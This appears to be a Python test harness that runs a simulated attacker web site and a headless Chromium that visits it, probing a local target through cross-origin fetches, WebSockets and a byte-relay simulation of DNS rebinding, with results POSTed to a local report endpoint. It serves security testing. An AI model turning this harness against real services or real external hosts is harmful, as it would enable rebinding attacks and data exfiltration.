"""A web site of an attacker, and a real Chromium that visits it."""

import http.client
import json
import queue
import shutil
import socket
import subprocess
import threading

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--disable-dev-shm-usage",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--remote-debugging-port=0",
]

# `attempt(name, work)` records the result of an attack; `report()` sends all results to the attacker.
LIBRARY = """
const results = {};
async function attempt(name, work) {
  try { results[name] = await work(); } catch (error) { results[name] = 'error'; }
}
async function send(url, options) {
  const answer = await fetch(url, options);
  return { status: answer.status, text: await answer.text() };
}
function follow(url) {
  return new Promise((resolve) => {
    const socket = new WebSocket(url);
    socket.onopen = () => resolve('open');
    socket.onerror = () => resolve('refused');
    setTimeout(() => resolve('silent'), 10000);
  });
}
function report() { return fetch(REPORT, { method: 'POST', mode: 'no-cors', body: JSON.stringify(results) }); }
"""


class Site:
    """A web server with pages of scripts. Forwards requests for other paths to the target byte by byte, which simulates DNS
    rebinding: the target sees what a browser would send if the site's host name resolved to the target's address."""

    def __init__(self, target_port=None):
        self.pages, self.reports, self.target_port = {}, queue.Queue(), target_port
        # Reports have a separate port, because a forwarded connection stays with the target.
        self.listeners = [socket.create_server(("127.0.0.1", 0)) for _ in range(2)]
        self.port, self.report_port = (listener.getsockname()[1] for listener in self.listeners)
        for listener in self.listeners:
            threading.Thread(target=self._accept, args=(listener,), daemon=True).start()

    def close(self):
        for listener in self.listeners:
            listener.close()

    def page(self, path, script, host):
        """Adds a page; returns its URL."""
        library = LIBRARY.replace("REPORT", json.dumps(f"http://{host}:{self.report_port}/report"))
        script = f"{library}\n(async () => {{ {script}\nawait report(); }})();"
        self.pages[path] = f"<!doctype html><title>page</title><script>{script}</script>".encode()
        return f"http://{host}:{self.port}{path}"

    def _accept(self, listener):
        while True:
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            threading.Thread(target=self._serve, args=(connection,), daemon=True).start()

    def _serve(self, connection):
        with connection:
            head = b""
            while b"\r\n\r\n" not in head:
                piece = connection.recv(65536)
                if not piece:
                    return
                head += piece
            path = head.split(b" ")[1].decode()
            if path == "/report":
                self.reports.put(json.loads(self._body(connection, head)))
                self._answer(connection, 204, b"")
            elif path in self.pages:
                self._answer(connection, 200, self.pages[path])
            elif self.target_port:
                self._relay(connection, head)
            else:
                self._answer(connection, 404, b"")

    @staticmethod
    def _body(connection, received):
        head, _, body = received.partition(b"\r\n\r\n")
        headers = http.client.parse_headers(_Lines(head))
        while len(body) < int(headers.get("Content-Length", 0)):
            body += connection.recv(65536)
        return body

    @staticmethod
    def _answer(connection, status, body):
        head = f"HTTP/1.1 {status} x\r\nContent-Type: text/html\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
        connection.sendall(head.encode() + body)

    def _relay(self, connection, first):
        with socket.create_connection(("127.0.0.1", self.target_port)) as target:
            target.sendall(first)
            back = threading.Thread(target=_copy, args=(target, connection), daemon=True)
            back.start()
            _copy(connection, target)
            back.join()


class _Lines:
    """The lines of a head, without the request line, as `http.client` reads them."""

    def __init__(self, head):
        self.lines = [line + b"\r\n" for line in head.split(b"\r\n")[1:]] + [b"\r\n"]

    def readline(self, _limit=-1):
        return self.lines.pop(0) if self.lines else b""


def _copy(source, sink):
    try:
        while piece := source.recv(65536):
            sink.sendall(piece)
        sink.shutdown(socket.SHUT_WR)
    except OSError:
        pass  # One side has closed its connection.


def visit(site, url, folder, resolve):
    """Opens a page in Chromium and returns its report. `resolve` lists host names that resolve to this machine."""
    rules = ",".join(f"MAP {name} 127.0.0.1" for name in resolve)
    command = [CHROMIUM, *FLAGS, f"--host-resolver-rules={rules}", f"--user-data-dir={folder}", url]
    with open(folder / "chromium.log", "wb") as log:
        process = subprocess.Popen(command, stdout=log, stderr=log)
    try:
        return site.reports.get(timeout=90)
    except queue.Empty:
        raise AssertionError(f"Chromium did not report:\n{(folder / 'chromium.log').read_text(errors='replace')}") from None
    finally:
        process.terminate()
        try:
            process.wait(10)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()
